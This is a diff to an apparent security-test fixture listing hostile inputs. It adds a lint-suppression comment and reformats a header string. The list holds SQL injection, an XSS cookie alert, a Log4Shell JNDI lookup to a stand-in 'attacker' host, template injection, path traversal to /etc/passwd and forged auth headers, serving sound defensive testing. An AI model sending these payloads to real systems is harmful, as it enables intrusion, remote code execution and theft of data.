@@ -17,6 +17,7 @@ const injections = [
   `' OR '1'='1`,
   `"; SELECT pg_sleep(10); --`,
   `<script>alert(document.cookie)</script>`,
+  // biome-ignore lint/suspicious/noTemplateCurlyInString: a log-injection probe, meant literally
   '${jndi:ldap://attacker/x}',
   '{{7*7}}',
   '../../../../etc/passwd',
@@ -158,7 +159,7 @@ export function hostileRequests(): HostileRequest[] {
     'Bearer',
     'Bearer ck_short',
     'Basic YWRtaW46YWRtaW4=',
-    'bearer ' + 'x'.repeat(5000),
+    `bearer ${'x'.repeat(5000)}`,
     `Bearer ck_AAAAAAAAAAAA_${'B'.repeat(32)}`,
     "Bearer ' OR 1=1 --",
   ]) {
